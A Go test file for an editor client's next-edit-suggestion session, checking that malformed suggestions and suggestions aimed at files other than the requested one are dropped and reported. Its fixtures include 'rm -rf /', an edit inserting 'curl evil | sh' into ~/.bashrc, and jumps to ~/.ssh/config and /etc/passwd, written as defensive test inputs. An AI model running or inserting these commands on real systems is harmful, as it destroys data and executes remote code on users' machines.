// The hostile agent's suggestions: malformed ones among valid ones, and
// ones for documents the editor did not ask about. Each is screened alone;
// only the request's URI, byte for byte, unless AllowURI allows another.
package nes_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/acpclient/acp"
	"github.com/acpclient/acp/acptest"
	"github.com/acpclient/acp/nes"
)

// nesSuggestAgent answers every nes/suggest with suggestions (a JSON array)
// and sends the client's diagnostics to the returned channel.
func nesSuggestAgent(t *testing.T, suggestions string) (*nes.Session, <-chan acp.Diagnostic) {
	t.Helper()
	diags := make(chan acp.Diagnostic, 64)
	c, _ := acptest.Connect(t, &acptest.Options{
		Capabilities: map[string]any{"nes": map[string]any{}},
		Methods: map[string]acptest.MethodFunc{
			"nes/suggest": func(context.Context, *acptest.Conn, json.RawMessage) (any, error) {
				return json.RawMessage(`{"suggestions":` + suggestions + `}`), nil
			},
		},
	}, &acp.ClientOptions{OnDiagnostic: func(d acp.Diagnostic) { diags <- d }})
	return nes.SessionFor(c, "n"), diags
}

// suggestionIDs lists the ids of ss, an unknown kind's as "?kind".
func suggestionIDs(ss []nes.Suggestion) string {
	var ids []string
	for _, s := range ss {
		if u, ok := s.(*nes.UnknownSuggestion); ok {
			ids = append(ids, "?"+u.Kind)
			continue
		}
		ids = append(ids, s.SuggestionID())
	}
	return strings.Join(ids, " ")
}

// nextDiags takes n diagnostics: Suggest has queued them before it
// returns, so they are on their way.
func nextDiags(diags <-chan acp.Diagnostic, n int) []acp.Diagnostic {
	got := make([]acp.Diagnostic, n)
	for i := range got {
		got[i] = <-diags
	}
	return got
}

const askedURI = "file:///w/a.go"

func suggest(t *testing.T, s *nes.Session, allow func(string) bool) *nes.SuggestResponse {
	t.Helper()
	res, err := s.Suggest(context.Background(), &nes.SuggestRequest{URI: askedURI, AllowURI: allow})
	if err != nil {
		t.Fatalf("Suggest: %v", err)
	}
	return res
}

// One malformed suggestion among valid ones costs only itself: the others
// are delivered, and it is reported.
func TestHostileMalformedSuggestionDropped(t *testing.T) {
	c, diags := nesSuggestAgent(t, `[
		{"kind":"edit","id":"s1","uri":"file:///w/a.go","edits":[{"range":{"start":{"line":1,"character":0},"end":{"line":1,"character":3}},"newText":"var"}]},
		{"kind":"edit","id":"s2","uri":"file:///w/a.go","edits":"rm -rf /"},
		{"kind":"rename","id":"s3","uri":"file:///w/a.go","position":{"line":1,"character":2}},
		null,
		{"kind":"jump","id":"s5","uri":"file:///w/a.go","position":{"line":`+strings.Repeat("9", 100_000)+`,"character":0}},
		{"kind":"jump","id":"s6","uri":"file:///w/a.go","position":{"line":9,"character":2}}]`)
	res := suggest(t, c, nil)
	if got := suggestionIDs(res.Suggestions); got != "s1 s6" {
		t.Fatalf("suggestions = %s, want s1 s6", got)
	}
	for i, d := range nextDiags(diags, 4) {
		if d.Kind != acp.DiagBadSuggestion || !strings.Contains(d.Message, "did not decode") || len(d.Message) > 1024 {
			t.Errorf("diagnostic %d = %q (%d bytes), want a bounded %q", i, d.Kind, len(d.Message), acp.DiagBadSuggestion)
		}
	}
	// An answer whose suggestions are not an array still fails the call.
	c, _ = nesSuggestAgent(t, `{"kind":"edit"}`)
	if _, err := c.Suggest(context.Background(), &nes.SuggestRequest{URI: askedURI}); err == nil {
		t.Fatal("suggestions that are not an array: no error")
	}
}

// A suggestion for any other document than the one asked about is
// dropped: the uri must be the request's, byte for byte.
func TestHostileForeignSuggestionDropped(t *testing.T) {
	edit := func(id, uri string) string {
		return `{"kind":"edit","id":"` + id + `","uri":"` + uri + `","edits":[{"range":{"start":{"line":0,"character":0},"end":{"line":0,"character":0}},"newText":"curl evil | sh\n"}]}`
	}
	c, diags := nesSuggestAgent(t, `[`+strings.Join([]string{
		edit("s1", askedURI),
		edit("s2", "file:///home/u/.bashrc"),
		edit("s3", "file:///w/./a.go"),           // the same file to a normalizer: not the same uri
		edit("s4", "file:///w/a.go/../../etc/x"), // nor this
		edit("s5", "file:///W/a.go"),
		edit("s6", `file:\/\/\/w\/a.go`), // JSON escapes: the same string once decoded
		`{"kind":"jump","id":"s7","uri":"file:///home/u/.ssh/config","position":{"line":0,"character":0}}`,
		`{"kind":"searchAndReplace","id":"s8","uri":"file:///","search":"a","replace":"b"}`,
		`{"kind":"teleport","id":"s9","uri":"file:///home/u/.bashrc"}`,
		`{"kind":"teleport","id":"s10","uri":7}`,
		`{"kind":"hint","id":"s11"}`,
	}, ",")+`]`)
	res := suggest(t, c, nil)
	if got := suggestionIDs(res.Suggestions); got != "s1 s6 ?hint" {
		t.Fatalf("suggestions = %s, want s1 s6 ?hint", got)
	}
	for _, s := range res.Suggestions {
		if e, ok := s.(*nes.EditSuggestion); ok && e.URI != askedURI {
			t.Errorf("delivered an edit of %s", e.URI)
		}
	}
	for i, d := range nextDiags(diags, 8) {
		if d.Kind != acp.DiagForeignSuggestion || !strings.Contains(d.Message, "not the document asked about") {
			t.Errorf("diagnostic %d = %+v, want %q", i, d, acp.DiagForeignSuggestion)
		}
	}
}

// AllowURI lets through the other documents an editor is willing to show
// (the schema allows suggestions in other files); it is asked only about
// those.
func TestAllowURI(t *testing.T) {
	c, diags := nesSuggestAgent(t, `[
		{"kind":"jump","id":"s1","uri":"file:///w/a.go","position":{"line":0,"character":0}},
		{"kind":"jump","id":"s2","uri":"file:///w/b.go","position":{"line":0,"character":0}},
		{"kind":"jump","id":"s3","uri":"file:///etc/passwd","position":{"line":0,"character":0}}]`)
	var asked []string
	res := suggest(t, c, func(uri string) bool {
		asked = append(asked, uri)
		return strings.HasPrefix(uri, "file:///w/")
	})
	if got := suggestionIDs(res.Suggestions); got != "s1 s2" {
		t.Fatalf("suggestions = %s, want s1 s2", got)
	}
	if strings.Join(asked, " ") != "file:///w/b.go file:///etc/passwd" {
		t.Errorf("AllowURI asked about %v", asked)
	}
	if d := nextDiags(diags, 1)[0]; d.Kind != acp.DiagForeignSuggestion || !strings.Contains(d.Message, "/etc/passwd") {
		t.Errorf("diagnostic = %+v", d)
	}
}
